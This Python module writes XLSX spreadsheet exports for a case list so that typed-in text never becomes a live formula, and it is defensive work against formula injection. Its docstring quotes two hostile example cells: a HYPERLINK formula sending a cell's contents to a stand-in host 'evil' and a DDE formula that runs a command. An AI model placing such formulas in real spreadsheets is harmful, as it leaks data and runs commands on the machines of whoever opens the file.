"""Spreadsheets that are safe to open (RELIABILITY.md T19; OWASP "CSV Injection"; ASVS 1.2.10).

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return is taken for a
formula by Excel and LibreOffice when it is typed in or read from CSV; openpyxl even stores a
Python str that starts with `=` as a formula (`data_type == 'f'`). A case list carries text
that parties and clerks typed (names, employers), so an export could carry
`=HYPERLINK("http://evil/?"&A1,"点击")` or `=cmd|' /C calc'!A0` to whoever opens it.

What this module does, and why not the OWASP leading quote:

- Every text value is written as a string cell (`data_type = 's'`, stored as an inline
  string): the file says "this is text", so neither Excel nor LibreOffice evaluates it when
  the file is opened; the cell shows exactly the text, with no added character.
- Text that starts with one of the trigger characters also gets the cell style
  `quotePrefix`: the flag Excel sets itself when a user types `'=1`. Without it, a user who
  opens the cell and presses Enter would turn the text into a live formula (caxlsx#529); with
  it, the cell stays text after editing, in Excel and in LibreOffice.
- The OWASP advice to prepend `'` is for CSV, which has no cell types. In an XLSX the
  apostrophe would be shown as part of the value and change what a reader (or a re-import)
  sees, so it is not used here.
- Characters XML cannot hold (NUL and other C0 controls except tab, line feed and carriage
  return) are dropped; a carriage return becomes a line feed (XML parsers turn a raw CR into
  LF anyway, so this only makes the file say what every reader will see).

Numbers stay numbers: `Decimal` money is written as a number with the format `#,##0.00`
(never converted to float; negative amounts are numbers, not text), `int` as a number,
`date` as a date (`yyyy-mm-dd`), aware `datetime` in Beijing time (`yyyy-mm-dd hh:mm`).
A float is refused: money in this project is never a float.
"""

from __future__ import annotations

import datetime as dt
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

BEIJING = ZoneInfo("Asia/Shanghai")
MONEY_FORMAT = "#,##0.00"
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
#: First characters that make a spreadsheet read text as a formula (OWASP; ASVS 1.2.10).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_CR = re.compile(r"\r\n?")


def clean_text(value: str) -> str:
    """The text as it will be stored: no characters XML cannot hold, CR as LF."""
    return ILLEGAL_CHARACTERS_RE.sub("", _CR.sub("\n", value))


def write_cell(sheet: Worksheet, row: int, column: int, value: Any) -> None:
    """Write one value so that text is never a formula and numbers and dates keep their type."""
    cell = sheet.cell(row=row, column=column)
    if value is None:
        return
    if isinstance(value, bool | int):
        cell.value = value
    elif isinstance(value, Decimal):
        if not value.is_finite():
            raise ValueError(f"cannot write {value} to a spreadsheet")
        cell.value = value
        cell.number_format = MONEY_FORMAT
    elif isinstance(value, dt.datetime):
        if value.tzinfo is not None:
            value = value.astimezone(BEIJING).replace(tzinfo=None)
        cell.value = value
        cell.number_format = DATETIME_FORMAT
    elif isinstance(value, dt.date):
        cell.value = value
        cell.number_format = DATE_FORMAT
    elif isinstance(value, float):
        raise TypeError("floats are not written: use Decimal for money, int for counts")
    else:
        text = clean_text(str(value))
        cell.value = text
        cell.data_type = "s"  # openpyxl made it a formula if it starts with "="
        if str(value).startswith(FORMULA_TRIGGERS) or text.startswith(FORMULA_TRIGGERS):
            cell.quotePrefix = True


def write_rows(sheet: Worksheet, rows: Iterable[Sequence[Any]], *, start_row: int = 1) -> int:
    """Write `rows` from `start_row` down; returns the number of the next free row."""
    number = start_row
    for values in rows:
        for column, value in enumerate(values, start=1):
            write_cell(sheet, number, column, value)
        number += 1
    return number


def workbook_bytes(
    *, title: str, headers: Sequence[str], rows: Iterable[Sequence[Any]], widths: Sequence[int] | None = None
) -> bytes:
    """A one-sheet workbook: a bold, frozen header row, then the rows, written safely."""
    workbook = Workbook()
    sheet = workbook.active  # a new workbook has one sheet
    sheet.title = clean_text(title)[:31] or "Sheet1"
    write_rows(sheet, [headers])
    for column in range(1, len(headers) + 1):
        sheet.cell(row=1, column=column).font = Font(bold=True)
    sheet.freeze_panes = "A2"
    write_rows(sheet, rows, start_row=2)
    for column, width in enumerate(widths or [], start=1):
        sheet.column_dimensions[get_column_letter(column)].width = width
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
